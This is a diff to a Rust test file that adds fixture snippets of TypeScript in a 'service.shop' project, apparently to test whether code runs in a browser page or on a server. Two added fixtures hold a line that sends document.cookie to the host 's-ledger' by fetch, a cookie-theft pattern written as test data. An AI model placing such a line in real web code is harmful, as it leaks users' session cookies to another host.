@@ -50,6 +50,14 @@ fn what_a_page_calls_its_browser_calls() {
             nothing,
         ),
         (
+            "-- service.shop/main.ts\nimport { router } from './router';\nrouter.listen(() => document.title);\nfetch('http://s-ledger/x/' + at());\nfunction at() { return document.cookie; }\n",
+            nothing,
+        ),
+        (
+            "-- service.shop/main.ts\ndocument.evaluate('//x', document.body);\nfetch('http://s-ledger/x/' + document.cookie);\n",
+            nothing,
+        ),
+        (
             "-- service.shop/public/a.js\nfunction init(root) { (root || document).querySelector('x'); document.title = ''; }\ninit();\nfetch('http://s-ledger/x');\n",
             nothing,
         ),
@@ -113,6 +121,11 @@ fn what_may_run_in_the_service_is_its_own() {
     let loop_ = "setInterval(() => { fetch('http://s-ledger/x'); fetch(next()); }, 1000);\n";
     let rows_of: &[(String, &[&str])] = &[
         (format!("{APP}{ssr}"), KEPT),
+        ("-- service.shop/main.ts\nimport { Crawler } from 'acme-crawler';\nexport const handler = async (page) => { const t = await page.evaluate(() => document.title); return fetch('http://s-ledger/x/' + t); };\n".into(), KEPT),
+        ("-- service.shop/main.ts\nimport { launch } from 'acme-browser';\nconst page = await launch();\nawait page.$eval('#x', (e) => e.textContent);\nawait page.waitForFunction(() => window.done);\ndocument.title;\nfetch('http://s-ledger/x');\n".into(), KEPT),
+        ("-- service.shop/main.ts\nimport { createServer } from 'acme-http';\nimport './page';\nconst server = createServer();\nserver.listen(8080);\nfetch('http://s-ledger/x');\n-- service.shop/page.ts\nexport const page = () => document.title;\n".into(), KEPT),
+        ("-- service.shop/main.ts\nimport { createServer } from 'acme-http';\nimport './page';\ncreateServer().listen(process.env.PORT || 3000);\nfetch('http://s-ledger/x');\n-- service.shop/page.ts\nexport const page = () => document.title;\n".into(), KEPT),
+        ("-- service.shop/main.ts\nimport { createServer } from 'acme-http';\nimport './page';\nconst serverPort = Number(1);\ncreateServer().listen(serverPort);\nfetch('http://s-ledger/x');\n-- service.shop/page.ts\nexport const page = () => document.title;\n".into(), KEPT),
         (
             "-- service.shop/shot.ts\nimport puppeteer from 'puppeteer';\nconst page = await (await puppeteer.launch()).newPage();\nawait page.evaluate(() => document.title);\nfetch('http://s-ledger/x');\n".into(),
             KEPT,
